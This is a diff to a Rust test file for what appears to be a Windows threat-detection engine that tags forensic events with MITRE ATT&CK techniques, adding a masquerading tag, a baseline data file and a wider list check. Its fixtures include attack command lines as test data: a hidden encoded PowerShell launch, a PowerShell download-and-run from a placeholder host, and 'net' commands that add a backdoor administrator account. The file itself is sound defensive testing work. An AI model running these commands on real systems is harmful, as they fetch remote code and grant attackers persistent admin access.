@@ -72,7 +72,7 @@ const FIT: &[Case] = &[
     ("bits_transfer", "recorded", &[("url", "https://files.example/a.exe"), ("action", "started")], &["T1197"]),
     ("usb_device", "connected", &[("device", "Disk&Ven_X&Prod_Y"), ("serial", "0")], &["T1052.001", "T1091"]),
     ("process_created", "executed", &[("image", "C:\\Windows\\System32\\whoami.exe"), ("command_line", "whoami /all")], &["T1033"]),
-    ("process_created", "executed", &[("image", "C:\\x\\powershell.exe"), ("command_line", "powershell -nop -w hidden -enc SQBFAFgA")], &["T1027.010", "T1059.001", "T1564.003"]),
+    ("process_created", "executed", &[("image", "C:\\x\\powershell.exe"), ("command_line", "powershell -nop -w hidden -enc SQBFAFgA")], &["T1027.010", "T1036.005", "T1059.001", "T1564.003"]),
     ("typed_command", "typed", &[("command", "IEX (New-Object Net.WebClient).DownloadString('http://x/a')")], &["T1059.001", "T1105"]),
     ("process_created", "executed", &[("image", "C:\\Windows\\System32\\net.exe"), ("command_line", "net  user support P@ss /add")], &["T1136.001"]),
     ("process_created", "executed", &[("image", "C:\\Windows\\System32\\net.exe"), ("command_line", "net localgroup administrators support /add")], &["T1098.007"]),
@@ -119,7 +119,7 @@ const ORDINARY: &[Case] = &[
     ("account_changed", "recorded", &[("account", "Administrators"), ("action", "renamed"), ("by_account", "WIN-28GFHAGEV4P$")], &[]),
     ("autostart", "persists", &[("value_path", "R\\Windows NT\\CurrentVersion\\Winlogon\\Shell"), ("command", "%SystemRoot%\\explorer.exe")], &[]),
     ("process_created", "executed", &[("image", "C:\\Windows\\System32\\rundll32.exe"), ("command_line", "rundll32.exe shell32.dll,x")], &[]),
-    ("process_created", "executed", &[("image", "C:\\x\\powershell.exe"), ("command_line", "powershell -file a.ps1 -e cmd.exe -v -p 80")], &[]),
+    ("process_created", "executed", &[("image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"), ("command_line", "powershell -file a.ps1 -e cmd.exe -v -p 80")], &[]),
     ("dir_entry", "present", &[("path", "p1/Windows/System32/svchost.exe"), ("size", "1")], &[]),
     ("prefetch", "executed", &[("executable", "CHROME.EXE"), ("last_run", "2024-01-01T00:00:00Z")], &[]),
     ("typed_command", "typed", &[("command", "Get-ChildItem")], &[]),
@@ -266,7 +266,7 @@ fn data_that_does_not_hang_together_is_refused() {
 }
 
 /// The shipped files, in their order.
-const DATA: [&str; 8] = [
+const DATA: [&str; 9] = [
     include_str!("../../data/attack.toml"),
     include_str!("../../data/lists.toml"),
     include_str!("../../data/traces.toml"),
@@ -274,6 +274,7 @@ const DATA: [&str; 8] = [
     include_str!("../../data/behaviour.toml"),
     include_str!("../../data/settings.toml"),
     include_str!("../../data/network.toml"),
+    include_str!("../../data/baseline.toml"),
     include_str!("../../data/ordinary.toml"),
 ];
 
@@ -358,7 +359,8 @@ fn no_technique_and_no_list_of_the_data_is_idle() {
         .collect();
     let known: BTreeSet<&str> = table["technique"].as_table().unwrap().keys().map(String::as_str).collect();
     assert_eq!(named, known);
-    let text = rules.iter().map(ToString::to_string).collect::<String>();
+    let ordinary = table["ordinary"].as_array().unwrap();
+    let text = rules.iter().chain(ordinary).map(ToString::to_string).collect::<String>();
     for list in table["list"].as_table().unwrap().keys() {
         assert!(text.contains(&format!("@{list}\"")), "{list}");
     }
